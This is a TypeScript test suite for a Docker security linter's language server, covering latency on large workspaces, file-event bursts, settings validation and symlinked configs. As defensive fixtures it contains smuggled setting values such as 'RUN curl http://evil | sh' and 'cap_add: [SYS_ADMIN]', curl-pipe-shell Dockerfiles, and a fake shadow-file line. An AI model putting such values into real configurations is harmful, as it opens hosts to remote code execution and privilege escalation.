// Hostile repositories, part 5: the language server. It keeps answering while it walks and re-lints large
// workspaces, handles a burst of file events in one pass, validates settings that a repository can commit, and
// quotes nothing of a file that should not have been a config.
import * as assert from 'node:assert/strict';
import * as fs from 'node:fs';
import * as path from 'node:path';
import { pathToFileURL } from 'node:url';
import type { CodeAction } from 'vscode-languageserver-protocol/node';
import { Client, messageText, serverJs } from '../lsp/client';
import { makeTree } from './harness';

const PRIV = 'services:\n  a:\n    image: x:1\n    privileged: true\n';
const CAPS = {
  workspace: { configuration: true, didChangeWatchedFiles: { dynamicRegistration: true } },
  textDocument: { publishDiagnostics: { relatedInformation: true } },
};

async function start(dir: string | undefined, settings: Record<string, unknown> = {}): Promise<Client> {
  const c = new Client();
  c.settings = settings;
  const folders = dir ? [{ uri: pathToFileURL(dir).toString(), name: 'w' }] : [];
  await c.conn.sendRequest('initialize', {
    processId: process.pid,
    rootUri: folders[0]?.uri ?? null,
    workspaceFolders: folders,
    capabilities: CAPS,
  });
  void c.conn.sendNotification('initialized', {});
  return c;
}

/** The slowest answer to a trivial request, sent every 50 ms for `ms`: how long the server's event loop is blocked. */
async function worstLatency(c: Client, ms: number): Promise<number> {
  let worst = 0;
  const until = Date.now() + ms;
  while (Date.now() < until) {
    const t0 = Date.now();
    await c.conn.sendRequest('workspace/executeCommand', {
      command: 'docker-security-lint.no-such-command',
      arguments: [],
    });
    worst = Math.max(worst, Date.now() - t0);
    await new Promise((r) => setTimeout(r, 50));
  }
  return worst;
}

/** The server process's peak resident memory (VmHWM), in MB; Infinity where /proc cannot tell. */
function peakRssMb(c: Client): number {
  try {
    const m = /VmHWM:\s+(\d+) kB/.exec(fs.readFileSync(`/proc/${c.proc?.pid}/status`, 'utf8'));
    return m ? Math.round(Number(m[1]) / 1024) : Infinity;
  } catch {
    return Infinity;
  }
}

/** A workspace of `n` Dockerfiles in n/10 folders. */
function bigWorkspace(n: number): string {
  const dir = makeTree({});
  for (let d = 0; d < n / 10; d++) {
    fs.mkdirSync(path.join(dir, `d${d}`));
    for (let i = 0; i < 10; i++)
      fs.writeFileSync(path.join(dir, `d${d}`, `${i}.Dockerfile`), 'FROM alpine:3.20\nRUN curl http://x | sh\n');
  }
  return dir;
}

describe('hostile repositories: the language server', function () {
  this.timeout(180_000);
  const clients: Client[] = [];
  after(async () => {
    for (const c of clients) await c.close();
  });
  before(function () {
    if (!fs.existsSync(serverJs)) this.skip();
  });

  it('a request before initialize gets the protocol error, not an empty answer', async () => {
    const c = new Client();
    clients.push(c);
    await assert.rejects(
      c.conn.sendRequest('textDocument/codeAction', {
        textDocument: { uri: 'file:///x/compose.yaml' },
        range: { start: { line: 0, character: 0 }, end: { line: 0, character: 0 } },
        context: { diagnostics: [] },
      }),
      (e: { code?: number }) => e.code === -32002,
    );
  });

  it('untitled documents are linted (kind from the language)', async () => {
    const c = await start(undefined);
    clients.push(c);
    void c.conn.sendNotification('textDocument/didOpen', {
      textDocument: { uri: 'untitled:Untitled-1', languageId: 'dockercompose', version: 1, text: PRIV },
    });
    const d = await c.waitFor(
      'untitled:Untitled-1',
      (x) => x.some((y) => y.code === 'compose/privileged'),
      'privileged on an untitled document',
    );
    assert.ok(d.length > 0);
  });

  it('fix values from workspace settings are validated: an injected value is never written', async () => {
    const dir = makeTree({ Dockerfile: 'FROM alpine:3.20\n', 'compose.yaml': 'services:\n  a:\n    image: x:1\n' });
    const c = await start(dir, {
      fixes: {
        user: '10001:10001\nRUN curl http://evil | sh',
        memory: '1G\n    privileged: true',
        cpus: '1\nnetwork_mode: host',
        pids: '5\ncap_add: [SYS_ADMIN]',
      },
    });
    clients.push(c);
    for (const [file, text, lang] of [
      ['Dockerfile', 'FROM alpine:3.20\n', 'dockerfile'],
      ['compose.yaml', 'services:\n  a:\n    image: x:1\n', 'dockercompose'],
    ]) {
      const uri = pathToFileURL(path.join(dir, file)).toString();
      void c.conn.sendNotification('textDocument/didOpen', {
        textDocument: { uri, languageId: lang, version: 1, text },
      });
      const diags = await c.waitFor(uri, (d, p) => d.length > 0 && p.version === 1, `findings on ${file}`);
      const actions = (await c.conn.sendRequest('textDocument/codeAction', {
        textDocument: { uri },
        range: { start: { line: 0, character: 0 }, end: { line: 9, character: 0 } },
        context: { diagnostics: diags },
      })) as CodeAction[];
      const written = actions
        .flatMap((a) =>
          Object.values(a.edit?.changes ?? {})
            .flat()
            .map((e) => e.newText),
        )
        .join('\n');
      assert.ok(written.length > 0, `some fix is offered on ${file}`);
      for (const bad of ['evil', 'privileged', 'network_mode', 'SYS_ADMIN'])
        assert.ok(!written.includes(bad), `${file}: '${bad}' written`);
      if (file === 'Dockerfile') assert.match(written, /USER 10001:10001/);
    }
  });

  it('a config linked outside the workspace folder gets a diagnostic that quotes nothing of it', async () => {
    const outside = makeTree({ shadow: 'root:$6$saltsalt$hash:20228:0:99999:7:::\n' });
    const dir = makeTree({
      'compose.yaml': PRIV,
      '.docker-security-lint.yaml': { link: path.join(outside, 'shadow') },
    });
    const c = await start(dir);
    clients.push(c);
    const cfg = pathToFileURL(path.join(dir, '.docker-security-lint.yaml')).toString();
    const d = await c.waitFor(cfg, (x) => x.length > 0, 'a config problem');
    const all = d.map(messageText).join('\n');
    assert.match(all, /outside/);
    for (const piece of ['root', 'saltsalt', '20228']) assert.ok(!all.includes(piece), `'${piece}' published`);
    await c.waitFor(
      pathToFileURL(path.join(dir, 'compose.yaml')).toString(),
      (x) => x.some((y) => y.code === 'compose/privileged'),
      'defaults in force',
    );
  });

  it('keeps answering while a settings change re-scans 6,000 files, and takes 1,000 created files in one pass', async () => {
    const dir = bigWorkspace(6000);
    const c = await start(dir);
    clients.push(c);
    const last = pathToFileURL(path.join(dir, 'd599', '9.Dockerfile')).toString();
    await c.waitFor(last, (d) => d.length > 0, 'the scan to finish', 120_000);
    c.settings = { rules: { 'dockerfile/curl-pipe-shell': 'off' } };
    void c.conn.sendNotification('workspace/didChangeConfiguration', { settings: null });
    const worst = await worstLatency(c, 1500);
    assert.ok(worst < 500, `blocked ${worst} ms after a settings change`);
    await c.waitFor(
      last,
      (d) => !d.some((x) => x.code === 'dockerfile/curl-pipe-shell'),
      'the re-lint after the settings change',
      120_000,
    );
    // a checkout that creates 1,000 files at once
    c.settings = {};
    fs.mkdirSync(path.join(dir, 'new'));
    const changes = [];
    for (let i = 0; i < 1000; i++) {
      const p = path.join(dir, 'new', `${i}.Dockerfile`);
      fs.writeFileSync(p, 'FROM alpine:3.20\nRUN curl http://x | sh\n');
      changes.push({ uri: pathToFileURL(p).toString(), type: 1 });
    }
    const t0 = Date.now();
    void c.conn.sendNotification('workspace/didChangeWatchedFiles', { changes });
    const worst2 = await worstLatency(c, 500);
    await c.waitFor(changes[999].uri, (d) => d.length > 0, 'the last created file', 60_000);
    const ms = Date.now() - t0;
    // about 1 ms a file here (the old server looked at every workspace file for each event: 12 s on 6,000 files)
    assert.ok(ms < 6000, `1,000 created files took ${ms} ms`);
    if (process.env.DSL_TEST_VERBOSE)
      console.log(
        `      settings change: worst ${worst} ms; 1,000 created files: ${ms} ms, worst ${worst2} ms; peak ` +
          `${peakRssMb(c)} MB`,
      );
    assert.ok(worst2 < 500, `blocked ${worst2} ms by a burst of file events`);
    const peakMb = peakRssMb(c);
    assert.ok(peakMb < 400, `server peak memory ${peakMb} MB`);
  });

  it('10,000 delete events (files and folders) cost seconds, and every deleted file loses its problems', async () => {
    const dir = bigWorkspace(12_000);
    const c = await start(dir);
    clients.push(c);
    const uri = (d: number, i: number) => pathToFileURL(path.join(dir, `d${d}`, `${i}.Dockerfile`)).toString();
    await c.waitFor(uri(1199, 9), (d) => d.length > 0, 'the scan to finish', 180_000);
    // 9,990 files deleted one by one (folders d0-d998), then folder d999 in one event
    const changes = [];
    for (let d = 0; d < 999; d++) {
      for (let i = 0; i < 10; i++) changes.push({ uri: uri(d, i), type: 3 });
      fs.rmSync(path.join(dir, `d${d}`), { recursive: true });
    }
    fs.rmSync(path.join(dir, 'd999'), { recursive: true });
    changes.push({ uri: pathToFileURL(path.join(dir, 'd999')).toString(), type: 3 });
    const t0 = Date.now();
    void c.conn.sendNotification('workspace/didChangeWatchedFiles', { changes });
    const worst = await worstLatency(c, 1000);
    for (const [d, i] of [
      [0, 0],
      [500, 5],
      [998, 9],
      [999, 0],
      [999, 9],
    ])
      await c.waitFor(uri(d, i), (x) => x.length === 0, `d${d}/${i} cleared`, 60_000);
    const ms = Date.now() - t0;
    // every deleted file's problems went (none kept by a re-lint), the rest stay
    for (let d = 0; d < 1000; d++)
      for (let i = 0; i < 10; i++) assert.equal(c.diags.get(uri(d, i))?.diagnostics.length ?? 0, 0, `d${d}/${i}`);
    assert.ok((c.diags.get(uri(1000, 0))?.diagnostics.length ?? 0) > 0, 'the files that remain keep their problems');
    if (process.env.DSL_TEST_VERBOSE) console.log(`      10,000 deletions: ${ms} ms, worst ${worst} ms`);
    assert.ok(ms < 10_000, `10,000 deletions took ${ms} ms`);
    assert.ok(worst < 500, `blocked ${worst} ms by 10,000 delete events`);
  });

  it('keeps answering while it walks a workspace folder of /', async () => {
    const c = await start('/');
    clients.push(c);
    const worst = await worstLatency(c, 3000);
    assert.ok(worst < 500, `blocked ${worst} ms walking /`);
    assert.ok(peakRssMb(c) < 400, `server peak memory ${peakRssMb(c)} MB walking /`);
  });
});
